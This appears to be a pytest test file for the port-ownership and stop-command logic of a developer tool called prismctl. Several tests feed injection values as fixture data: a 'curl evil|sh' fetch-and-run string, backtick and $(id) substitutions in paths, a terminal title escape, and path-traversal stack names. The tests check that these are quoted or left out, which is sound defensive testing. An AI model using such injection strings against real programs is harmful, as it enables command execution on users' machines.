from __future__ import annotations

import shlex
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from prismctl.domain.addressing import PortConflict, PortHolder
from prismctl.domain.host_port import HostPort, PortProtocol
from prismctl.domain.port_owner import (
    ContainerOwner,
    StackOwner,
    advise_on_container,
    describe_owner,
    stop_command,
)
from prismctl.domain.service import ServiceName
from prismctl.files.paths import Home
from prismctl.files.stack_owners import recognize_stack
from prismctl.machine import who_holds
from prismctl.machine.port_owners import find_container, find_publisher, owner_of_container
from prismctl.planning import PortTakenError, render_conflict
from tests.free_ports import take_port
from tests.port_holder import HOLDER, holding

if TYPE_CHECKING:
    from pathlib import Path


def test_a_service_of_a_stack_is_known_by_its_marks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = Home(tmp_path)
    home.stack("u1").directory.mkdir(parents=True)
    for name, value in (
        ("PRISM_KEEPER", home.stack("u1").keeper_id),
        ("PRISM_STACK", "u1"),
        ("PRISM_SERVICE", "a"),
    ):
        monkeypatch.setenv(name, value)
    port = take_port()
    with holding(port):
        holder = who_holds(port)
    seen = recognize_stack(holder, home)
    assert seen is not None
    assert seen.owner is not None
    assert (seen.owner.stack, seen.owner.service, seen.owner.is_other_home) == ("u1", "a", False)
    strange = recognize_stack(holder, Home(tmp_path / "other"))
    assert strange is not None
    assert strange.owner is not None
    assert strange.owner.is_other_home


EVIL = "u1; curl evil|sh #\x1b]0;OWNED\x07"


def test_a_process_cannot_put_shell_code_into_the_command_that_stops_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in (("PRISM_KEEPER", "k"), ("PRISM_STACK", EVIL), ("PRISM_SERVICE", EVIL)):
        monkeypatch.setenv(name, value)
    port = take_port()
    with holding(port):
        seen = recognize_stack(who_holds(port), Home(tmp_path))
    assert seen is not None
    assert seen.owner == StackOwner("k", is_other_home=True)
    assert stop_command(seen.owner) == "`prismctl dev stop` with its PRISM_HOME"


@pytest.mark.parametrize(
    ("lock", "home", "stack"),
    [
        ("/tmp/`curl evil`;$(id)/run/u1/keeper.lock", "/tmp/`curl evil`;$(id)", "u1"),
        (f"/h/run/{EVIL.replace('/', '')}/keeper.lock", "/h", ""),
        ("/tmp/\x1b]0;OWNED\x07/run/u1/keeper.lock", "", "u1"),
        ("/tmp/a\nb/run/u1/keeper.lock", "", "u1"),
    ],
)
def test_the_home_on_a_command_line_is_quoted_or_left_out(
    lock: str, home: str, stack: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PRISM_KEEPER", "k")
    port = take_port()
    with subprocess.Popen(
        [sys.executable, "-S", "-c", HOLDER, str(port), "meek", "--id", "k", "--lock", lock],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "listening\n"
        holder = who_holds(port)
        process.kill()
    assert holder is not None
    assert holder.owner is not None
    assert (holder.owner.home, holder.owner.stack) == (home, stack)


def test_the_command_that_stops_another_home_is_one_command_whatever_its_path() -> None:
    home = "/tmp/`curl evil`; it's $(id)"
    command = stop_command(StackOwner("k", "u1", home=home, is_other_home=True), mark="")
    assert shlex.split(command) == [
        f"PRISM_HOME={home}",
        *["prismctl", "dev", "stop", "--stack", "u1"],
    ]
    assert f"PRISM_HOME={shlex.quote(home)} " in command


def test_a_container_that_is_called_like_shell_code_is_not_named() -> None:
    for name in (EVIL, "--all", "a b", "`id`"):
        owner = find_container(["conmon", "-n", name], HostPort(5432))
        assert owner == ContainerOwner("podman")
        assert advise_on_container(owner) == "`podman ps` shows which it is"
    quoted = advise_on_container(ContainerOwner("podman", "a; b"))
    assert quoted == "`podman stop 'a; b'` ends it"
    own = owner_of_container(ContainerOwner("podman", f"prism-e7eb399dc1c6f39a-{EVIL}"))
    assert own == StackOwner("prism-e7eb399dc1c6f39a")


@pytest.mark.parametrize("name", ["..", ".", "u1;id", "u1\n", "../run/u1"])
def test_no_process_is_taken_for_a_stack_that_cannot_be_one(tmp_path: Path, name: str) -> None:
    home = Home(tmp_path)
    home.stack("u1").directory.mkdir(parents=True)
    (home.stacks / name.replace("/", "")).mkdir(exist_ok=True)
    holder = PortHolder(pid=7, owner=StackOwner(home.stack(name).keeper_id, name, "a"))
    seen = recognize_stack(holder, home)
    assert seen is not None
    assert seen.owner is not None
    # A path that leads to a stack is that stack, by its own name.
    is_u1 = home.stack(name).keeper_id == home.stack("u1").keeper_id
    assert (seen.owner.stack, seen.owner.is_other_home) == (("u1", False) if is_u1 else ("", True))


def test_a_stranger_is_nobodys() -> None:
    port = take_port()
    with holding(port):
        holder = who_holds(port)
    assert holder is not None
    assert (holder.owner, holder.container) == (None, None)


def test_conmon_names_its_container() -> None:
    words = ["/usr/bin/conmon", "--api-version", "1", "-c", "4b5d", "-n", "shop-db", "--exit-dir"]
    assert find_container(words, HostPort(5432)) == ContainerOwner("podman", "shop-db")
    assert find_container(["postgres", "-n", "shop-db"], HostPort(5432)) is None
    assert find_container([], HostPort(5432)) is None


def test_a_container_of_a_stack_is_known_by_its_name() -> None:
    own = ContainerOwner("podman", "prism-e7eb399dc1c6f39a-redis-cache")
    assert owner_of_container(own) == StackOwner("prism-e7eb399dc1c6f39a", service="redis-cache")
    assert owner_of_container(ContainerOwner("podman", "prism-tools")) is None


@pytest.mark.parametrize(
    ("number", "name"), [(18711, "a"), (53, "dns"), (7002, "many"), (6379, ""), (871, "")]
)
def test_the_container_that_publishes_a_port(number: int, name: str) -> None:
    listing = (
        "a 127.0.0.1:18711->6379/tcp\n"
        "dns 0.0.0.0:53->53/tcp, [::]:53->53/tcp\n"
        "many 0.0.0.0:7000-7005->7000-7005/tcp\n"
        "none \n"
    )
    assert find_publisher(listing, HostPort(number)) == name


def test_the_container_that_publishes_a_udp_port_is_not_the_one_of_the_same_number() -> None:
    listing = "web 127.0.0.1:5353->80/tcp\ndns 127.0.0.1:5353->53/udp, 127.0.0.1:8053->8053/tcp\n"
    assert find_publisher(listing, HostPort(5353)) == "web"
    assert find_publisher(listing, HostPort(5353, PortProtocol.UDP)) == "dns"
    assert find_publisher(listing, HostPort(8053, PortProtocol.UDP)) == ""


@pytest.mark.parametrize(
    ("owner", "words", "command"),
    [
        (
            StackOwner("k", "u1", "a"),
            "a of stack u1",
            "`prismctl dev stop --stack u1`",
        ),
        (
            StackOwner("k", "u1", "a", "/h", is_other_home=True),
            "a of stack u1 of the home /h",
            "`PRISM_HOME=/h prismctl dev stop --stack u1`",
        ),
        (
            StackOwner("k", is_other_home=True),
            "a stack of another home",
            "`prismctl dev stop` with its PRISM_HOME",
        ),
    ],
)
def test_an_owner_in_words(owner: StackOwner, words: str, command: str) -> None:
    assert (describe_owner(owner), stop_command(owner)) == (words, command)


def test_a_conflict_with_another_stack_names_it_and_how_to_stop_it() -> None:
    owner = StackOwner("k", "u1", "a")
    conflict = PortConflict(18711, ServiceName("a"), "main", PortHolder(pid=7, owner=owner))
    assert render_conflict(conflict) == "port 18711 (a) belongs to a of stack u1 (PID 7)"
    hint = PortTakenError([conflict]).hint
    assert hint == "`prismctl dev stop --stack u1` stops it, or start with --auto-ports"


def test_one_holder_that_nobody_knows_makes_the_hint_general() -> None:
    known = PortHolder(pid=7, owner=StackOwner("k", "u1", "a"))
    conflicts = [
        PortConflict(1, ServiceName("a"), "main", known),
        PortConflict(2, ServiceName("b"), "main", PortHolder(pid=8)),
    ]
    assert PortTakenError(conflicts).hint == "end them, or start with --auto-ports"
